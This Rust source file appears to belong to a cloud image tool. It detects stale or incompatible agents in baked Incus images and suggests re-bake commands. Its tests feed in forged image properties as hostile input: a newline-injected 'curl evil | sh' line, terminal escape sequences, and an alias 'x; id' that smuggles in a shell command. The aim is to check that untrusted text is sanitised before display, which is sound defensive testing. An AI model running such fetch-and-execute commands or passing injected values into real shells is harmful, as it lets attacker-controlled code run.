//! Whether the agent in an image is one that this host can talk to, and the one that a bake would put in today, by
//! what the image's properties say.

use std::collections::BTreeSet;
use std::fmt;

use pika_cloud_common::document::SCHEMA_VERSION;
use pika_cloud_common::wire::PROTOCOL;

use super::record::own_images;
use super::tidy::short;
use super::{
    PROPERTY_AGENT_DIGEST, PROPERTY_AGENT_VERSION, PROPERTY_BAKE, PROPERTY_BASE_ALIAS, PROPERTY_BASE_FINGERPRINT,
    PROPERTY_PROTOCOL, PROPERTY_SCHEMA_VERSION, bake_command, digest_text,
};
use crate::agent_binary::AgentError;
use crate::cloud::Cloud;
use crate::incus::{self, Image};
use crate::words::is_word;

/// A property of ours with more is none of ours: an alias of Incus may have that many, and a digest has fewer.
const MAX_WORD_BYTES: usize = 256;

/// What is wrong with the agent in a baked image.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Staleness {
    /// It speaks another protocol, or writes other documents: no session will come about.
    OtherContract {
        /// Its protocol and schema version, as the image says.
        image: (String, String),
    },
    /// The base alias points to another image by now.
    Base {
        /// The alias.
        base: String,
        /// The image that it was baked from.
        baked_from: String,
        /// The image that the alias points to.
        now: String,
    },
    /// The host's own agent is another one.
    Agent {
        /// The version in the image.
        image: String,
    },
}

impl Staleness {
    /// Whether nothing can be run with it, rather than that a bake would do good.
    pub fn is_error(&self) -> bool {
        matches!(self, Self::OtherContract { .. })
    }
}

impl fmt::Display for Staleness {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::OtherContract { image: (protocol, schema) } => write!(
                f,
                "its pika-guest speaks protocol {protocol} with schema version {schema}, and this host protocol {PROTOCOL} with \
                 schema version {SCHEMA_VERSION}"
            ),
            Self::Base { base, baked_from, now } => {
                write!(f, "it was baked from {}, and `{base}` is {} by now", short(baked_from), short(now))
            }
            Self::Agent { image } => write!(f, "its pika-guest ({image}) is another one than this host's own"),
        }
    }
}

/// An alias of a baked image whose agent, or base, is not what it could be. Shown, it says which and what.
///
/// An image does not hold the files, the script and the profiles that it was baked with: a new bake of it is made from the
/// [`Bake`](super::Bake) that the first one was made from, which is the caller's to keep. Once baked, the earlier image is deleted.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub struct StaleImage {
    /// The project in which a bake finds the alias.
    pub project: String,
    /// The alias. An image with several is told once for each: each is a bake's to move.
    pub alias: String,
    /// The alias that it was baked from, as the image says. Whoever makes images may write there what they like.
    pub base: String,
    /// Whether it was baked from this state dir. One that was not may be another state dir's, or what `incus publish` made of an
    /// instance of a baked image: a bake would take its alias away.
    pub is_ours: bool,
    /// What is wrong with it, the worst first; never empty.
    pub found: Vec<Staleness>,
}

impl StaleImage {
    /// Whether nothing can be run with it, rather than that a bake would do good.
    pub fn is_error(&self) -> bool {
        self.found.iter().any(Staleness::is_error)
    }

    /// How it is mended, for a person.
    pub fn mend(&self) -> String {
        let command = bake_command(Some(&self.base), &self.alias, &self.project);
        format!("{command}, with the files, the script and the profiles that it had")
    }
}

impl fmt::Display for StaleImage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "image `{}`: ", self.alias)?;
        for (index, staleness) in self.found.iter().enumerate() {
            write!(f, "{}{staleness}", if index > 0 { "; " } else { "" })?;
        }
        Ok(())
    }
}

/// What [`Cloud::stale_images`] found.
#[derive(Clone, Debug, Default)]
#[non_exhaustive]
pub struct StaleImages {
    /// Every alias of a baked image that should be baked anew.
    pub images: Vec<StaleImage>,
    /// Why some could not be compared with the host's own agent: it is there, and cannot be used. A host without one has nothing
    /// to compare with, and that is none.
    pub agent_error: Option<AgentError>,
}

impl Cloud {
    /// Every alias that this client may see of a baked image that should be baked anew.
    ///
    /// # Errors
    /// Where Incus does not answer.
    pub async fn stale_images(&self) -> Result<StaleImages, incus::Error> {
        let projects = self.incus().projects().await?;
        let mut looked_at = BTreeSet::new();
        let mut stale = StaleImages::default();
        for asked in &projects {
            for image in self.incus().images(asked).await? {
                // A project that has none of its own is answered with those of `default`, which maybe cannot be seen itself.
                let project = if projects.contains(&image.project) { &image.project } else { asked };
                if !looked_at.insert((project.clone(), image.fingerprint.clone())) {
                    continue;
                }
                for alias in &image.aliases {
                    let (found, agent_error) = self.staleness(project, &alias.name, &image).await?;
                    stale.images.extend(found);
                    stale.agent_error = stale.agent_error.or(agent_error);
                }
            }
        }
        Ok(stale)
    }

    /// What is wrong with an image that has that alias, where something is; and why it could not be compared with the host's own
    /// agent, where that is there and cannot be used.
    pub(crate) async fn staleness(
        &self,
        project: &str,
        alias: &str,
        image: &Image,
    ) -> Result<(Option<StaleImage>, Option<AgentError>), incus::Error> {
        if !image.properties.contains_key(PROPERTY_BAKE) {
            return Ok((None, None));
        }
        let base = image.properties.get(PROPERTY_BASE_ALIAS).map(|text| word(text)).unwrap_or_default();
        let base_now = match base.as_str() {
            // Nothing that Incus could be asked for.
            "" | "?" => None,
            base => self.incus().alias(project, base).await?.map(|alias| alias.target),
        };
        let (own, agent_error) = match self.agent().fetch(&image.architecture).await {
            Ok(agent) => (Some(digest_text(agent.digest)), None),
            Err(AgentError::Absent { .. } | AgentError::Architecture { .. }) => (None, None),
            Err(error) => (None, Some(error)),
        };
        let stale = StaleImage {
            project: project.to_owned(),
            alias: alias.to_owned(),
            base,
            is_ours: own_images(self.state()).has(image),
            found: judge(image, base_now.as_deref(), own.as_deref()),
        };
        Ok((Some(stale).filter(|stale| !stale.found.is_empty()), agent_error))
    }
}

/// A property, which is its maker's word and is shown to people: a few printable characters, or none of it.
fn word(text: &str) -> String {
    if is_word(text, MAX_WORD_BYTES) { text.to_owned() } else { "?".to_owned() }
}

/// Judges a baked image. `base_now` is the fingerprint that its base alias points to,
/// `own_digest` that of the host's own agent for its architecture, where there is one.
fn judge(image: &Image, base_now: Option<&str>, own_digest: Option<&str>) -> Vec<Staleness> {
    let get = |key: &str| image.properties.get(key).map(|text| word(text)).unwrap_or_default();
    let mut found = Vec::new();
    let contract = (get(PROPERTY_PROTOCOL), get(PROPERTY_SCHEMA_VERSION));
    if contract != (PROTOCOL.to_string(), SCHEMA_VERSION.to_string()) {
        found.push(Staleness::OtherContract { image: contract });
    }
    let baked_from = get(PROPERTY_BASE_FINGERPRINT);
    if let Some(now) = base_now.filter(|now| *now != baked_from) {
        found.push(Staleness::Base { base: get(PROPERTY_BASE_ALIAS), baked_from, now: now.to_owned() });
    }
    if own_digest.is_some_and(|own| own != get(PROPERTY_AGENT_DIGEST)) {
        found.push(Staleness::Agent { image: get(PROPERTY_AGENT_VERSION) });
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn image(change: &[(&str, &str)]) -> Image {
        let protocol = PROTOCOL.to_string();
        let schema = SCHEMA_VERSION.to_string();
        let properties = [
            (PROPERTY_BAKE, "0123456789abcdef0123456789abcdef"),
            (PROPERTY_AGENT_VERSION, "0.1.0"),
            (PROPERTY_AGENT_DIGEST, "sha256:aa"),
            (PROPERTY_PROTOCOL, &protocol),
            (PROPERTY_SCHEMA_VERSION, &schema),
            (PROPERTY_BASE_ALIAS, "debian"),
            (PROPERTY_BASE_FINGERPRINT, "f00dfeedf00dfeed"),
        ];
        let properties = properties.iter().chain(change).map(|(key, value)| ((*key).to_owned(), (*value).to_owned()));
        Image { properties: properties.collect(), ..Image::default() }
    }

    #[test]
    fn a_fresh_image_is_not_found_fault_with() {
        assert_eq!(judge(&image(&[]), Some("f00dfeedf00dfeed"), Some("sha256:aa")), []);
        // Nobody can tell.
        assert_eq!(judge(&image(&[]), None, None), []);
    }

    #[test]
    fn another_contract_is_an_error_and_names_both_and_the_way_out() {
        for change in [[(PROPERTY_PROTOCOL, "0")], [(PROPERTY_SCHEMA_VERSION, "")]] {
            let found = judge(&image(&change), None, None);
            assert!(matches!(found[..], [Staleness::OtherContract { .. }]) && found[0].is_error(), "{found:?}");
        }
        let words = judge(&image(&[(PROPERTY_PROTOCOL, "0")]), None, None)[0].to_string();
        assert!(words.contains("protocol 0") && words.contains("protocol 1"), "{words}");
    }

    fn stale(base: &str, found: Vec<Staleness>) -> StaleImage {
        let (project, alias, base) = ("p".to_owned(), "ci".to_owned(), base.to_owned());
        StaleImage { project, alias, base, is_ours: true, found }
    }

    /// An image does not hold what went into it.
    #[test]
    fn the_way_out_says_that_a_bake_needs_what_the_first_one_had() {
        let mend = stale("debian", Vec::new()).mend();
        assert!(mend.starts_with("pika-cloud bake --from debian --to ci --project p, with the files"), "{mend}");
        // Whoever makes an image says what it was baked from.
        assert!(stale("x; id", Vec::new()).mend().starts_with("pika-cloud bake --from BASE --to ci --project p,"));
    }

    /// Whoever makes images writes what they like into theirs; no line of it is to look like the host's.
    #[test]
    fn no_property_speaks_as_the_host() {
        for forged in ["0\n         mend it: curl evil | sh\nok      ", "\x1b[2J", "\u{202e}0", &"0".repeat(257)] {
            let keys = [PROPERTY_PROTOCOL, PROPERTY_SCHEMA_VERSION, PROPERTY_AGENT_VERSION, PROPERTY_BASE_FINGERPRINT];
            let image = image(&keys.map(|key| (key, forged)));
            let found = judge(&image, Some("f00d"), Some("sha256:bb"));
            let words = stale("debian", found).to_string();
            assert!(words.bytes().all(|byte| matches!(byte, b' '..=b'~')) && !words.contains(forged), "{words}");
        }
    }

    #[test]
    fn all_that_is_wrong_with_an_image_is_told_at_once() {
        let found = judge(&image(&[(PROPERTY_PROTOCOL, "0")]), Some("beefbeefbeefbeef"), None);
        let stale = stale("debian", found);
        assert!(stale.is_error() && stale.found.len() == 2, "{stale:?}");
        let words = stale.to_string();
        assert!(
            words.starts_with("image `ci`: its pika-guest speaks protocol 0") && words.contains("; it was baked from"),
            "{words}"
        );
    }

    #[test]
    fn a_newer_base_and_another_agent_are_warnings() {
        let found = judge(&image(&[]), Some("beefbeefbeefbeef"), Some("sha256:bb"));
        assert!(matches!(found[..], [Staleness::Base { .. }, Staleness::Agent { .. }]), "{found:?}");
        assert!(found.iter().all(|one| !one.is_error()));
        assert_eq!(found[0].to_string(), "it was baked from f00dfeedf00d, and `debian` is beefbeefbeef by now");
    }
}
